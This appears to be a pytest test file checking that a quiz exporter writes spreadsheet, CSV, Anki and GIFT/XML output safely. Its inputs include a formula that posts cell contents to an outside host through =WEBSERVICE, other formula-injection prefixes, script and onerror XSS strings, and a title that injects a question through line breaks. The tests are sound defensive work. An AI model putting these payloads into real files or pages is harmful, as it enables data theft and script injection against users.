"""What the writers write is data: a spreadsheet never runs a cell as a formula, a line
break in a title never starts a line of its own in the file, and any quiz written in a
format we read comes back with the same questions (their number and ids)."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from content.formats.base import ConversionError, ReadOptions, WriteOptions
from content.formats.convert import Loaded, read_quiz, write_quiz
from content.formats.csv_sheet import guarded, unguarded
from content.formats.registry import FORMATS
from content.loader import EVERYTHING, check_bank
from content.model import Quiz
from tests.support.formats import deck_names, notes, open_package, trip

FORMULAS = [
    '=WEBSERVICE("http://example.com/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "=1+1",
    "'=quoted",
    "''+twice",
    "-3",
    "'-3",
    "=",
]


def bank(**fields: Any) -> Quiz:
    """A quiz validated as a bank is, from its fields (the rest filled in)."""
    data: dict[str, Any] = {"id": "w", "title": "Writers", "level": "easy", "questions": []}
    data.update(fields)
    result = check_bank(data, "test", "en", accepts=EVERYTHING)
    assert result.quiz is not None, result.errors
    return result.quiz


def formula_quiz() -> Quiz:
    return bank(
        title='=HYPERLINK("http://example.com")',
        description="+description",
        questions=[
            {
                "id": f"q{number}",
                "text": formula,
                "options": [formula, "@other"],
                "answer": 0,
                "explanation": formula,
            }
            for number, formula in enumerate(FORMULAS)
        ]
        + [{"id": "typed", "text": "-x", "type": "typed", "answer": ["=a", "+b"]}],
    )


# --- spreadsheets hold text, never formulas ----------------------------------------------


def test_an_exported_xlsx_holds_every_text_as_text_and_reads_back_the_same() -> None:
    quiz = formula_quiz()
    back, output = trip(Loaded(quiz), "xlsx")
    with zipfile.ZipFile(io.BytesIO(output.data)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), name  # no formula in any sheet
    book = load_workbook(io.BytesIO(output.data))  # as a spreadsheet opens it, formulas and all
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    assert back.quiz == quiz


def test_an_exported_csv_guards_cells_a_spreadsheet_would_run_and_reads_back_the_same() -> None:
    quiz = formula_quiz()
    back, output = trip(Loaded(quiz), "csv", quiz_id="w", title=quiz.title.get("en", "en"))
    text = output.data.decode("utf-8-sig")
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            cell = cell.strip('"')
            if cell and cell != "-3":  # a number is a number, not a formula
                assert not cell.startswith(("=", "+", "-", "@", "\t")), line
    assert back.quiz.questions == quiz.questions


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "3", "a", " "])))
def test_the_csv_guard_is_undone_by_our_reader_for_any_text(text: str) -> None:
    written = guarded(text)
    assert unguarded(written) == text
    if written.lstrip("'") != written or not written.startswith(("=", "+", "-", "@", "\t", "\r")):
        return
    float(written)  # only a plain number may start like a formula unguarded


@pytest.mark.parametrize("formula", FORMULAS)
def test_anki_fields_hold_formulas_and_markup_as_text(formula: str) -> None:
    quiz = bank(
        title=f"{formula}<script>alert(1)</script>",
        questions=[
            {"id": "q", "text": f"{formula} <img src=x onerror=alert(1)>", "options": ["a", "b"]}
            | {"answer": 0, "explanation": "<script>x</script>"}
        ],
    )
    output = write_quiz(quiz, {}, FORMATS["apkg"], WriteOptions())
    fields, deck = _anki(output.data)
    assert "<script" not in fields and "<img src=x" not in fields
    assert "&lt;script&gt;" in fields
    assert deck == quiz.title.get("en", "en")


def _anki(data: bytes) -> tuple[str, str]:
    """The notes' fields and the deck's name in an .apkg."""
    connection, _, _ = open_package(data)
    fields = "\n".join("\x1f".join(fields) for _, fields, _ in notes(connection))
    return fields, deck_names(connection)[0]


# --- a line break in a title -------------------------------------------------------------


INJECTED = "Week 1\n\n::evil:: Injected? {T}\n\n$CATEGORY: other"


@pytest.mark.parametrize("fmt", ["gift", "xml", "csv", "xlsx", "yaml"])
def test_a_line_break_in_the_title_writes_no_question(fmt: str) -> None:
    quiz = bank(
        title=INJECTED,
        questions=[{"id": "q1", "text": "Q", "type": "true_false"} | {"answer": True}],
    )
    output = write_quiz(quiz, {}, FORMATS[fmt], WriteOptions())
    back = read_quiz(output.data, FORMATS[fmt], ReadOptions(name=f"w{FORMATS[fmt].extension}"))
    assert [q.id for q in back.quiz.questions] == ["q1"]
    if fmt in ("gift", "xml"):
        assert back.quiz.title.get("en", "en") == "Week 1 ::evil:: Injected? {T} $CATEGORY: other"
        assert any("line breaks" in warning for warning in output.warnings)


def test_an_anki_deck_name_has_no_line_break_nor_subdeck_separator() -> None:
    quiz = bank(
        title="Week 1\nPart::Two",
        questions=[{"id": "q", "text": "Q", "type": "true_false", "answer": True}],
    )
    _, deck = _anki(write_quiz(quiz, {}, FORMATS["apkg"], WriteOptions()).data)
    assert deck == "Week 1 Part:Two"


def test_a_control_character_in_a_text_is_refused_at_its_place() -> None:
    # no spreadsheet or XML file can hold one: the export would fail or be unreadable
    result = check_bank(
        {
            "id": "w",
            "title": "T",
            "level": "easy",
            "questions": [{"id": "q", "text": "a\x01b", "type": "true_false", "answer": True}],
        },
        "test",
        "en",
    )
    assert result.quiz is None
    assert "U+0001" in result.errors[0]


# --- any quiz comes back with the same questions ----------------------------------------

PIECES = st.sampled_from(
    [
        "\n",
        "\r\n",
        "\u2028",
        "\x85",
        "\t",
        " ",
        "a",
        "é",
        "$CATEGORY: x",
        "::",
        "::q9::",
        "{",
        "}",
        "~",
        "=",
        "#",
        "####",
        "//",
        "/",
        "[html]",
        "[plain]",
        "<b>",
        "</question>",
        "]]>",
        "&nbsp;",
        "&amp;",
        "=1+1",
        "@",
        "+",
        "-",
        "'",
        "`",
        "\\",
        "\\n",
        '"',
        ",",
        ";",
        "|",
        "%50%",
        "->",
        "*",
    ]
)
TEXTS = st.lists(PIECES, min_size=1, max_size=12).map("".join)


@st.composite
def quizzes(draw: st.DrawFn) -> Quiz:
    questions: list[dict[str, Any]] = []
    for number in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["single", "multiple", "true_false", "typed"]))
        question: dict[str, Any] = {"id": f"q{number}", "type": kind, "text": draw(TEXTS)}
        if kind in ("single", "multiple"):
            question["options"] = draw(st.lists(TEXTS, min_size=2, max_size=4, unique_by=str.strip))
            question["answer"] = 0 if kind == "single" else [0]
        elif kind == "true_false":
            question["answer"] = draw(st.booleans())
        else:
            question["answer"] = draw(st.lists(TEXTS, min_size=1, max_size=2))
        if draw(st.booleans()):
            question["explanation"] = draw(TEXTS)
        questions.append(question)
    data = {"id": "w", "level": "easy", "title": draw(TEXTS), "description": draw(TEXTS)}
    data["questions"] = questions
    result = check_bank(data, "test", "en", accepts=EVERYTHING)
    assume(result.quiz is not None)
    assert result.quiz is not None
    return result.quiz


@pytest.mark.parametrize("fmt", ["gift", "xml", "csv", "xlsx", "yaml"])
@given(quiz=quizzes())
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_quiz_written_and_read_back_has_the_same_questions(fmt: str, quiz: Quiz) -> None:
    output = write_quiz(quiz, {}, FORMATS[fmt], WriteOptions())
    left_out = {
        warning.split(":")[0].removeprefix("left out ")
        for warning in output.warnings
        if warning.startswith("left out ") and "the whole question" in warning
    }
    kept = [q.id for q in quiz.questions if q.id not in left_out]
    try:
        back = read_quiz(output.data, FORMATS[fmt], ReadOptions(name=f"w{FORMATS[fmt].extension}"))
    except ConversionError as error:
        assert not kept and error.problems == ("no questions found",), error.problems
        return
    assert [q.id for q in back.quiz.questions] == kept
